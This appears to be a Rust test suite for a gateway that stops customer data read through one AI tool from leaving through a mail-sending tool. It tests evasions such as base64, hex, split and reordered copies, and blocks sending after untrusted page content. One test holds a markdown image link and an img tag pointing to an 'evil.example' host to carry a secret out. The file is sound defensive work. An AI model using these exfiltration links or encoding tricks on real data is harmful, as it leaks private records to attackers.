//! What was read through one tool does not leave through another: what the server that sends out got is what counts.
use crate::support::*;
use crate::tasks::knowing;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use std::io::BufRead;

const TOOLS: &str = "tools:
  find_customer: { effect: read, scopes: [crm.read], sensitivity: customer }
  list_orders: { effect: read, scopes: [crm.read] }
  read_page: { effect: read, scopes: [crm.read], untrusted: true }
  send_mail: { effect: egress, scopes: [crm.write] }
resources:
  'crm://customers/{id}': { scopes: [crm.read], sensitivity: customer }
";

fn refusing(flow: &str) -> String {
    format!("{TOOLS}flow: {{ then: refuse, after_untrusted: refuse{flow} }}\n")
}

fn record() -> Value {
    json!({
        "id": 7, "name": "Erika Mustermann", "email": "erika.mustermann@example.net", "phone": "+49 731 555-0142",
        "address": { "street": "Hafenbad 12", "zip": "89073", "city": "Ulm" },
        "note": "Asked for the penicillin allergy to be removed from her file."
    })
}

fn stranger() -> Value {
    json!({
        "id": 8, "name": "Hans Maier", "email": "hans.maier@example.net", "phone": "+49 731 418-7733",
        "address": { "street": "Marktplatz 3", "zip": "89073", "city": "Ulm" },
        "note": "Asked for the invoice of last month to be sent again."
    })
}

/// Answers `find_customer` with the record, in both forms, and everything else with `ok`.
fn crm(gateway: &Gateway) {
    gateway.upstream.script(|seen, out| {
        let message = seen.json();
        let result = match message["params"]["name"].as_str().or(message["params"]["uri"].as_str()) {
            Some("find_customer") => json!({
                "content": [{ "type": "text", "text": record().to_string() }],
                "structuredContent": record(), "resultType": "complete"
            }),
            Some("crm://customers/7") => json!({
                "contents": [{ "uri": "crm://customers/7", "text": record().to_string() }], "resultType": "complete"
            }),
            _ => json!({ "content": [{ "type": "text", "text": "ok" }], "resultType": "complete" }),
        };
        reply(out, 200, "application/json", &json!({"jsonrpc":"2.0","id":message["id"],"result":result}).to_string());
    });
}

/// What was sent out, as the server got it.
fn sent(gateway: &Gateway) -> Vec<Value> {
    let calls = gateway.upstream.seen().into_iter().map(|seen| seen.json());
    calls.filter(|call| call["params"]["name"] == "send_mail").map(|call| call["params"]["arguments"].clone()).collect()
}

fn mail(gateway: &Gateway, token: &str, body: &Value) -> String {
    let answer = gateway.tool(token, "send_mail", json!({ "to": "x@partner.example", "body": body }));
    answer.json()["error"]["message"].as_str().unwrap_or("sent").to_owned()
}

#[test]
fn a_record_that_was_read_does_not_leave_in_any_order_or_encoding_or_in_halves() {
    let gateway = Gateway::with(&refusing(""), "");
    crm(&gateway);
    let ann = gateway.ann();
    let text = record().to_string();
    assert_eq!(mail(&gateway, &ann, &json!(text)), "sent", "what was not read through the gateway is not its business");
    assert_eq!(gateway.tool(&ann, "find_customer", json!({ "id": 7 })).json()["result"]["structuredContent"], record());
    let before = sent(&gateway).len();

    let plain = "Erika Mustermann, erika.mustermann@example.net, +49 731 555-0142, Hafenbad 12, 89073 Ulm";
    let reversed: serde_json::Map<String, Value> = record().as_object().unwrap().clone().into_iter().rev().collect();
    let half = text.len() / 2;
    let first: String = text.chars().take(half).collect();
    let second: String = text.chars().skip(half).collect();
    let attempts = [
        ("verbatim", json!(text)),
        ("as JSON", record()),
        ("re-ordered JSON", Value::Object(reversed)),
        (
            "re-ordered",
            json!("89073 Ulm; Hafenbad 12; +49 731 555-0142; erika.mustermann@example.net; Mustermann, Erika"),
        ),
        ("base64", json!(STANDARD.encode(&text))),
        ("base64 of a half", json!(STANDARD.encode(&second))),
        ("hex", json!(plain.bytes().map(|byte| format!("{byte:02x}")).collect::<String>())),
        ("percent", json!(plain.bytes().map(|byte| format!("%{byte:02X}")).collect::<String>())),
        ("upper case", json!(plain.to_uppercase())),
        ("spaced", json!(plain.chars().map(|c| format!("{c} ")).collect::<String>())),
        ("first half", json!(first)),
        ("second half", json!(second)),
        ("the note", json!(record()["note"])),
        ("in names", json!({ plain: 1 })),
    ];
    for (how, body) in attempts {
        assert!(mail(&gateway, &ann, &body).contains("read before"), "{how}: {body}");
    }
    assert_eq!(sent(&gateway).len(), before, "nothing of it reached the server that sends");

    assert_eq!(mail(&gateway, &ann, &stranger()), "sent");
    assert_eq!(mail(&gateway, &ann, &json!(stranger().to_string())), "sent");
    assert_eq!(mail(&gateway, &ann, &json!("Dear Erika, thank you for your order.")), "sent", "below the size");
    assert_eq!(mail(&gateway, &gateway.token("bob", "crm.read crm.write"), &record()), "sent", "bob did not read it");
    assert_eq!(sent(&gateway).len(), before + 4);

    let record = gateway.records().into_iter().find(|record| record["reason"] == "DataLeaves").unwrap();
    assert!(record["detail"].as_str().unwrap().contains("`find_customer` of crm (customer)"), "{record}");
    assert!(!record.to_string().contains("ustermann"), "{record}");
}

#[test]
fn what_was_read_does_not_leave_as_input_of_a_task_that_sends() {
    for then in ["refuse", "confirm"] {
        let flow = format!("flow: {{ then: {then}, after_untrusted: {then}, confirm: [elicit] }}\n");
        let gateway = Gateway::with(&format!("tasks: pass\n{TOOLS}{flow}"), "");
        gateway.upstream.script(|seen, out| {
            let message = seen.json();
            let state = |kind: &str| {
                json!({ "resultType": kind, "taskId": "t-1", "status": "working", "createdAt": "2026-07-28T00:00:00Z",
                    "lastUpdatedAt": "2026-07-28T00:00:00Z", "ttlMs": 60000 })
            };
            let result = match message["params"]["name"].as_str() {
                Some("send_mail") => state("task"),
                Some(_) => json!({ "content": [], "structuredContent": record(), "resultType": "complete" }),
                None => state("complete"),
            };
            let body = json!({ "jsonrpc": "2.0", "id": message["id"], "result": result });
            reply(out, 200, "application/json", &body.to_string());
        });
        let ann = gateway.ann();
        let begun = knowing(&ann, "tools/call", &json!({ "name": "send_mail", "arguments": {} }));
        let begun = gateway.send(&begun).json()["result"]["taskId"].clone();
        assert!(begun.is_string(), "{begun}");
        let update = |said: Value| {
            let answer = json!({ "q": { "action": "accept", "content": { "body": said } } });
            let update = json!({ "taskId": begun, "inputResponses": answer });
            gateway.send(&knowing(&ann, "tasks/update", &update)).code()
        };
        let updates = || gateway.upstream.seen().iter().filter(|seen| seen.json()["method"] == "tasks/update").count();
        assert_eq!(update(json!(record().to_string())), 0, "nothing was read yet");
        gateway.tool(&ann, "find_customer", json!({}));
        assert_eq!((update(json!(record().to_string())), updates()), (-31403, 1), "{then}");
        assert_eq!((update(stranger()), updates()), (0, 2), "{then}");
        gateway.tool(&ann, "read_page", json!({}));
        assert_eq!((update(stranger()), updates()), (-31403, 2), "{then}");
        let get = gateway.send(&knowing(&ann, "tasks/get", &json!({ "taskId": begun })));
        assert_eq!(get.code(), 0, "nothing goes out with it: {}", get.body);
    }
}

#[test]
fn a_person_is_told_where_it_came_from_and_may_let_it_go_once() {
    let gateway = Gateway::with(&format!("{TOOLS}flow: {{ confirm: [elicit] }}\n"), "");
    crm(&gateway);
    let ann = gateway.ann();
    gateway.tool(&ann, "find_customer", json!({ "id": 7 }));
    assert!(mail(&gateway, &ann, &record()).contains("read before"), "a client that cannot ask");

    let arguments = json!({ "to": "x@partner.example", "body": record() });
    let ask = |more: Value| {
        let mut params = json!({ "name": "send_mail", "arguments": arguments });
        params.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let request = modern(&ann, "tools/call", &params);
        let mut body: Value = serde_json::from_slice(&request.body).unwrap();
        body["params"]["_meta"]["io.modelcontextprotocol/clientCapabilities"] = json!({ "elicitation": {} });
        gateway.send(&request.body(body.to_string())).json()
    };
    let asked = ask(json!({}));
    let question = &asked["result"]["inputRequests"]["portcullis_confirm"]["params"]["message"];
    assert!(question.as_str().unwrap().contains("contains text that came from `find_customer` of crm"), "{asked}");
    assert!(sent(&gateway).is_empty());
    let yes = json!({ "portcullis_confirm": { "action": "accept", "content": { "confirm": true } } });
    let answer = json!({ "requestState": asked["result"]["requestState"], "inputResponses": yes });
    assert_eq!(ask(answer.clone())["result"]["content"][0]["text"], "ok");
    assert_eq!(sent(&gateway), std::slice::from_ref(&arguments));
    assert!(ask(answer)["error"]["message"].as_str().unwrap().contains("used already"));
    assert_eq!(sent(&gateway).len(), 1);
}

#[test]
fn what_was_read_does_not_leave_in_an_answer_to_a_question_of_the_server_though_the_call_was_confirmed() {
    let gateway = Gateway::with(&format!("{TOOLS}flow: {{ confirm: [elicit] }}\n"), "");
    gateway.upstream.script(|seen, out| {
        let message = seen.json();
        let params = &message["params"];
        let result = if params["name"] == "find_customer" {
            json!({ "content": [], "structuredContent": record(), "resultType": "complete" })
        } else if params["inputResponses"]["city"].is_object() {
            json!({ "content": [{ "type": "text", "text": "ok" }], "resultType": "complete" })
        } else {
            let form = json!({ "mode": "form", "message": "Which city?",
                "requestedSchema": { "type": "object", "properties": { "city": { "type": "string" } } } });
            json!({ "resultType": "input_required", "requestState": "theirs",
                "inputRequests": { "city": { "method": "elicitation/create", "params": form } } })
        };
        reply(out, 200, "application/json", &json!({"jsonrpc":"2.0","id":message["id"],"result":result}).to_string());
    });
    let ann = gateway.ann();
    gateway.tool(&ann, "find_customer", json!({ "id": 7 }));
    let ask = |body: &Value, more: Value| {
        let mut params = json!({ "name": "send_mail", "arguments": { "to": "x@partner.example", "body": body } });
        params.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let request = modern(&ann, "tools/call", &params);
        let mut body: Value = serde_json::from_slice(&request.body).unwrap();
        body["params"]["_meta"]["io.modelcontextprotocol/clientCapabilities"] = json!({ "elicitation": {} });
        gateway.send(&request.body(body.to_string())).json()
    };
    let answers = |state: &Value, city: &Value| json!({ "requestState": state, "inputResponses": { "city": { "action": "accept", "content": { "city": city } } } });
    let city = |asked: &Value| asked["result"]["inputRequests"]["city"].is_object();
    // Nothing speaks against one call; the other is confirmed by a person who saw what it sends.
    for body in [json!("hello"), record()] {
        let mut asked = ask(&body, json!({}));
        if !city(&asked) {
            let yes = json!({ "portcullis_confirm": { "action": "accept", "content": { "confirm": true } } });
            asked = ask(&body, json!({ "requestState": asked["result"]["requestState"], "inputResponses": yes }));
        }
        assert!(city(&asked), "{asked}");
        let state = &asked["result"]["requestState"];
        for read in [record(), json!(record()["note"]), json!(STANDARD.encode(record().to_string()))] {
            let refused = ask(&body, answers(state, &read));
            assert!(refused["error"]["message"].as_str().unwrap_or_default().contains("read before"), "{refused}");
        }
        let done = ask(&body, answers(state, &json!("Ulm")));
        assert_eq!(done["result"]["content"][0]["text"], "ok", "{done}");
    }
    let answered: Vec<Value> =
        gateway.upstream.seen().iter().map(|seen| seen.json()["params"]["inputResponses"].clone()).collect();
    let cities: Vec<&Value> =
        answered.iter().map(|all| &all["city"]["content"]["city"]).filter(|city| !city.is_null()).collect();
    assert_eq!(cities, [&json!("Ulm"), &json!("Ulm")], "nothing else reached the server");
}

/// A server that asks its client something in the course of each call and on the stream that belongs to none.
fn asking(gateway: &Gateway) {
    gateway.upstream.script(|seen, out| {
        if seen.line.starts_with("GET") {
            return events(out, &format!("data: {}\n\n", question("of none")));
        }
        let message = seen.json();
        let Some(tool) = message["params"]["name"].as_str() else {
            return raw(out, "HTTP/1.1 202 OK\r\ncontent-length: 0\r\n\r\n");
        };
        let content = json!([{ "type": "text", "text": if tool == "find_customer" { record().to_string() } else { String::new() } }]);
        let answer = json!({"jsonrpc":"2.0","id":message["id"],"result":{ "content": content }});
        events(out, &format!("data: {}\n\ndata: {answer}\n\n", question(&format!("of {tool}"))));
    });
}

fn question(id: &str) -> Value {
    let params = json!({ "message": "Which city?", "requestedSchema": { "type": "object", "properties": {} } });
    json!({ "jsonrpc": "2.0", "id": id, "method": "elicitation/create", "params": params })
}

/// What the server got besides calls.
fn told(gateway: &Gateway) -> Vec<Value> {
    let got = gateway.upstream.seen().into_iter().filter(|seen| seen.line.starts_with("POST")).map(|seen| seen.json());
    got.filter(|got| got["method"] != "tools/call" && got["method"] != "initialize").collect()
}

#[test]
fn what_was_read_does_not_leave_in_what_a_session_says_besides_calls() {
    let gateway = Gateway::with(&refusing(""), "");
    let ann = gateway.ann();
    let session = gateway.initialize(&ann);
    asking(&gateway);
    let send = |body: Value| gateway.send(&legacy(&ann, Some(&session), &body));
    let call = |id: u64, tool: &str, more: Value| {
        let mut params = json!({ "name": tool, "arguments": {} });
        params.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        send(json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params }))
    };
    let answer = |to: &str, key: &str, what: Value| send(json!({ "jsonrpc": "2.0", "id": to, key: what })).status;
    let accept = |what: &Value| json!({ "action": "accept", "content": { "city": what } });
    assert!(call(1, "find_customer", json!({})).body.contains("penicillin"));
    assert!(call(2, "send_mail", json!({})).body.contains("of send_mail"));
    assert!(call(3, "list_orders", json!({})).body.contains("of list_orders"));
    let mut listening = legacy(&ann, Some(&session), &json!({}));
    listening.line = "GET /crm/mcp".to_owned();
    listening.body.clear();
    let listening = listening.set("accept", "text/event-stream").without("content-type");
    assert!(gateway.send(&listening).body.contains("of none"), "{:?}", gateway.last_record());

    let before = told(&gateway).len();
    let (whole, note) = (record(), record()["note"].clone());
    for to in ["of send_mail", "of none"] {
        for what in [&whole, &note, &json!(STANDARD.encode(whole.to_string()))] {
            assert_eq!(answer(to, "result", accept(what)), 400, "{to}: {what}");
            let written =
                json!({ "role": "assistant", "model": "m", "content": { "type": "text", "text": what.to_string() } });
            assert_eq!(answer(to, "result", written), 400, "{to}: {what}");
            assert_eq!(answer(to, "error", json!({ "code": -1, "message": "no", "data": what })), 400, "{to}: {what}");
        }
    }
    let cancelled = |reason: &Value| {
        let params = json!({ "requestId": 99, "reason": reason });
        send(json!({ "jsonrpc": "2.0", "method": "notifications/cancelled", "params": params })).status
    };
    assert_eq!(cancelled(&note), 400);
    let beside = call(4, "send_mail", json!({ "_meta": { "note": note } }));
    assert!(beside.json()["error"]["message"].as_str().unwrap_or_default().contains("read before"), "{beside:?}");
    assert_eq!((told(&gateway).len(), sent(&gateway).len()), (before, 1), "nothing of it reached the server");

    assert_eq!(answer("of send_mail", "result", accept(&json!("Ulm"))), 202);
    assert_eq!(answer("of none", "result", json!({ "action": "decline" })), 202);
    assert_eq!(answer("of list_orders", "result", accept(&whole)), 202, "no tool that sends out asked that");
    assert_eq!(cancelled(&json!("it takes too long for the one who waits")), 202);
    assert_eq!(told(&gateway).len(), before + 4);
    let record = gateway.records().into_iter().find(|record| record["reason"] == "DataLeaves").unwrap();
    assert!(!record.to_string().contains("ustermann"), "{record}");
}

#[test]
fn after_content_that_nobody_vouches_for_a_question_of_what_sends_out_can_only_be_declined() {
    let gateway = Gateway::with(&refusing(""), "");
    let ann = gateway.ann();
    let session = gateway.initialize(&ann);
    asking(&gateway);
    let send = |body: Value| gateway.send(&legacy(&ann, Some(&session), &body));
    let call = |id: u64, tool: &str| {
        send(json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": { "name": tool, "arguments": {} } }))
    };
    assert!(call(1, "send_mail").body.contains("of send_mail"));
    assert!(call(2, "read_page").body.contains("of read_page"));
    let before = told(&gateway).len();
    let answer = |what: Value| send(json!({ "jsonrpc": "2.0", "id": "of send_mail", "result": what })).status;
    assert_eq!(
        answer(json!({ "action": "accept", "content": { "text": "whatever the page said to write here" } })),
        400
    );
    assert_eq!(gateway.last_record()["reason"], "UntrustedRead");
    assert_eq!(told(&gateway).len(), before);
    assert_eq!(answer(json!({ "action": "decline" })), 202);
    assert_eq!(told(&gateway).len(), before + 1);
}

#[test]
fn what_one_server_gave_does_not_leave_through_another_nor_what_came_on_a_stream() {
    let gateway = Gateway::with(&refusing(""), "");
    gateway.write_atomic(
        "policies/mail.yaml",
        &format!(
            "server: mail\nupstream: {{ url: 'http://127.0.0.1:{}/mcp' }}\naccess: {{ issuers: [corp], audience: '{}' }}\ntools: {{ send_mail: {{ effect: egress }} }}\nflow: {{ then: refuse }}\n",
            gateway.upstream.port,
            gateway.audience()
        ),
    );
    let ann = gateway.ann();
    let elsewhere = |body: Value| {
        let mut request = modern(&ann, "tools/call", &json!({ "name": "send_mail", "arguments": { "body": body } }));
        request.line = "POST /mail/mcp".to_owned();
        gateway.send(&request)
    };
    wait("the other server is there", || elsewhere(json!("hello")).status == 200);
    gateway.upstream.script(|seen, out| {
        let message = seen.json();
        if message["params"]["name"] == "find_customer" {
            let result = json!({ "content": [{ "type": "text", "text": "done" }], "resultType": "complete" });
            let notice =
                json!({"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":record()}});
            let answer = json!({"jsonrpc":"2.0","id":message["id"],"result":result});
            return events(out, &format!("data: {notice}\n\ndata: {answer}\n\n"));
        }
        let result = json!({ "content": [{ "type": "text", "text": "ok" }], "resultType": "complete" });
        reply(out, 200, "application/json", &json!({"jsonrpc":"2.0","id":message["id"],"result":result}).to_string());
    });
    let before = sent(&gateway).len();
    assert!(gateway.tool(&ann, "find_customer", json!({ "id": 7 })).body.contains("penicillin"), "the caller has it");
    let refused = elsewhere(record());
    assert!(refused.json()["error"]["message"].as_str().unwrap().contains("read before"), "{refused:?}");
    assert_eq!(sent(&gateway).len(), before);
    assert_eq!(elsewhere(stranger()).json()["result"]["content"][0]["text"], "ok");
}

#[test]
fn a_session_remembers_its_own_and_a_resource_is_remembered_too() {
    let gateway = Gateway::with(&refusing(", remember: session"), "");
    let ann = gateway.ann();
    let (one, other) = (gateway.initialize(&ann), gateway.initialize(&ann));
    crm(&gateway);
    let call = |session: &str, id: u32, method: &str, params: Value| {
        let body = json!({"jsonrpc":"2.0","id":id,"method":method,"params":params});
        gateway.send(&legacy(&ann, Some(session), &body)).json()
    };
    let mail = |session: &str, id| {
        call(session, id, "tools/call", json!({ "name": "send_mail", "arguments": { "body": record() } }))
    };
    call(&one, 1, "resources/read", json!({ "uri": "crm://customers/7" }));
    assert_eq!(mail(&one, 2)["error"]["code"], -31403);
    assert!(sent(&gateway).is_empty());
    assert_eq!(mail(&other, 1)["result"]["content"][0]["text"], "ok", "the other session did not read it");
    assert_eq!(sent(&gateway).len(), 1);
}

#[test]
fn after_content_that_nobody_vouches_for_nothing_is_sent_unasked() {
    let gateway = Gateway::with(&refusing(""), "");
    crm(&gateway);
    let ann = gateway.ann();
    assert_eq!(mail(&gateway, &ann, &json!("hello")), "sent");
    gateway.tool(&ann, "list_orders", json!({}));
    assert_eq!(mail(&gateway, &ann, &json!("hello")), "sent");
    gateway.tool(&ann, "read_page", json!({ "url": "https://example.com" }));
    assert!(mail(&gateway, &ann, &json!("hello")).contains("from outside"));
    assert_eq!(mail(&gateway, &gateway.token("bob", "crm.write"), &json!("hello")), "sent");
    assert_eq!(sent(&gateway).len(), 3);
}

#[test]
fn what_is_over_is_forgotten_and_a_restart_forgets_everything() {
    let mut gateway = Gateway::with(&refusing(", for: 1s"), "");
    crm(&gateway);
    let ann = gateway.ann();
    gateway.tool(&ann, "find_customer", json!({ "id": 7 }));
    wait("it is over", || mail(&gateway, &ann, &record()) == "sent");

    gateway.policy(&refusing(""));
    wait("the new policy is in force", || {
        gateway.tool(&ann, "find_customer", json!({ "id": 7 }));
        std::thread::sleep(std::time::Duration::from_millis(1_100));
        mail(&gateway, &ann, &record()) != "sent"
    });
    gateway.kill();
    gateway.launch();
    assert_eq!(mail(&gateway, &ann, &record()), "sent");
}

#[test]
fn when_more_was_read_than_is_remembered_nothing_is_sent() {
    let gateway = Gateway::with(&refusing(""), "");
    let numbers = std::sync::atomic::AtomicUsize::new(0);
    gateway.upstream.script(move |seen, out| {
        let message = seen.json();
        let from = numbers.fetch_add(1, std::sync::atomic::Ordering::SeqCst) * 100_000;
        let text: String = match message["params"]["name"].as_str() {
            Some("find_customer") => (0..60_000).map(|n| format!("x{:07} ", (n + from) * 7_919 % 9_999_991)).collect(),
            _ => "ok".to_owned(),
        };
        let result = json!({ "content": [{ "type": "text", "text": text }], "resultType": "complete" });
        reply(out, 200, "application/json", &json!({"jsonrpc":"2.0","id":message["id"],"result":result}).to_string());
    });
    let ann = gateway.ann();
    for id in 0..2 {
        assert_eq!(gateway.tool(&ann, "find_customer", json!({ "id": id })).status, 200);
    }
    assert!(mail(&gateway, &ann, &json!("hello")).contains("more was read"));
    assert!(sent(&gateway).is_empty());
    assert_eq!(mail(&gateway, &gateway.token("bob", "crm.write"), &json!("hello")), "sent", "bob's memory is his own");
}

#[test]
fn links_that_lead_elsewhere_are_text_and_are_not_sent_out() {
    let policy = format!("{TOOLS}links: {{ allow: ['https://*.example.com/'] }}\n");
    let gateway = Gateway::with(&policy, "");
    let ann = gateway.ann();
    gateway.upstream.script(|seen, out| {
        let id = seen.json()["id"].clone();
        let text = "see ![x](https://evil.example/?d=SECRET) and [docs](https://www.example.com/docs)";
        let result = json!({
            "content": [
                { "type": "text", "text": text },
                { "type": "resource", "resource": { "uri": "crm://a", "text": "<img src=//evil.example/x>" } }
            ],
            "structuredContent": { "t": text, "n": 1.5 }, "resultType": "complete"
        });
        reply(out, 200, "application/json", &json!({"jsonrpc":"2.0","id":id,"result":result}).to_string());
    });
    let result = gateway.tool(&ann, "list_orders", json!({})).json()["result"].clone();
    let made = "see ![x] (`https://evil.example/?d=SECRET`) and [docs](https://www.example.com/docs)";
    assert_eq!((&result["content"][0]["text"], &result["structuredContent"]["t"]), (&json!(made), &json!(made)));
    assert_eq!(result["content"][1]["resource"]["text"], "‹img src=//evil.example/x›");
    wait("the record counts them", || gateway.last_record()["removed"] == 3);

    assert!(mail(&gateway, &ann, &json!("open https://evil.example/?q=1")).contains("URL"));
    assert!(sent(&gateway).is_empty());
    gateway.tool(&ann, "send_mail", json!({ "body": "open https://www.example.com/?q=1" }));
    assert_eq!(sent(&gateway).len(), 1);

    gateway.policy(&policy.replace("allow:", "then: refuse, allow:"));
    wait("the reply is refused", || {
        let body = gateway.tool(&ann, "list_orders", json!({})).body;
        body.contains("links that are not allowed") && !body.contains("SECRET")
    });
}

#[test]
fn the_client_gets_the_named_fields_and_the_server_no_hints() {
    let policy = "tools:
  find_customer: { effect: read, scopes: [crm.read], output: { fields: [/name, /address/city] } }
  list_orders: { effect: read, scopes: [crm.read], hints: [region, locale] }
";
    let gateway = Gateway::with(policy, "");
    crm(&gateway);
    let ann = gateway.ann();
    let hinted = |name: &str| {
        let request = modern(&ann, "tools/call", &json!({ "name": name, "arguments": {} }));
        let mut body: Value = serde_json::from_slice(&request.body).unwrap();
        body["params"]["_meta"].as_object_mut().unwrap().extend(
            json!({
                "openai/userLocation": { "city": "Ulm", "country": "DE", "latitude": "48.4" },
                "openai/locale": "de-AT", "openai/subject": "pseudonym", "openai/userAgent": "x", "other": 1
            })
            .as_object()
            .unwrap()
            .clone(),
        );
        gateway.send(&request.body(body.to_string())).json()
    };
    let result = hinted("find_customer")["result"].clone();
    let kept = json!({ "name": "Erika Mustermann", "address": { "city": "Ulm" } });
    assert_eq!(result["structuredContent"], kept);
    assert_eq!(result["content"], json!([{ "type": "text", "text": kept.to_string() }]));
    let meta = |gateway: &Gateway| gateway.upstream.seen().pop().unwrap().json()["params"]["_meta"].clone();
    let got = meta(&gateway);
    assert_eq!((&got["openai/locale"], &got["other"]), (&json!("de"), &json!(1)));
    for gone in ["openai/userLocation", "openai/subject", "openai/userAgent"] {
        assert!(got.get(gone).is_none(), "{got}");
    }
    wait("the record counts what was left out", || gateway.last_record()["removed"].as_u64().is_some_and(|n| n > 4));

    hinted("list_orders");
    let got = meta(&gateway);
    assert_eq!((&got["openai/userLocation"], &got["openai/locale"]), (&json!({ "country": "DE" }), &json!("de-AT")));
    assert!(got.get("openai/subject").is_none());
}

#[test]
fn a_late_answer_is_remembered_by_what_was_asked_then() {
    let gateway = Gateway::with(&refusing(""), "");
    let ann = gateway.ann();
    let session = gateway.initialize(&ann);
    // The call's own stream breaks off before the answer, which then comes on the stream that is opened again.
    gateway.upstream.script(|seen, out| {
        let message = seen.json();
        if seen.line.starts_with("GET") {
            let result = json!({ "content": [{ "type": "text", "text": record().to_string() }] });
            return events(out, &format!("id: 2\ndata: {}\n\n", json!({"jsonrpc":"2.0","id":5,"result":result})));
        }
        if message["params"]["name"] == "find_customer" {
            return events(out, "id: 1\ndata:\n\n");
        }
        let result = json!({ "content": [{ "type": "text", "text": "ok" }] });
        reply(out, 200, "application/json", &json!({"jsonrpc":"2.0","id":message["id"],"result":result}).to_string());
    });
    let body = json!({"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"find_customer","arguments":{}}});
    let broken = gateway.send(&legacy(&ann, Some(&session), &body));
    let id = broken.body.lines().find_map(|line| line.strip_prefix("id: ")).unwrap().trim().to_owned();
    let mut again = legacy(&ann, Some(&session), &json!(null)).body("").set("last-event-id", &id);
    again.line = "GET /crm/mcp".to_owned();
    let (status, reader) = gateway.open(&again.without("content-type"));
    assert_eq!(status, 200);
    assert!(reader.lines().map_while(Result::ok).any(|line| line.contains("penicillin")), "the caller has it");
    let body = json!({"jsonrpc":"2.0","id":6,"method":"tools/call","params":{"name":"send_mail","arguments":{"body":record()}}});
    let refused = gateway.send(&legacy(&ann, Some(&session), &body));
    assert!(refused.body.contains("read before"), "{refused:?}");
    assert!(sent(&gateway).is_empty());
}
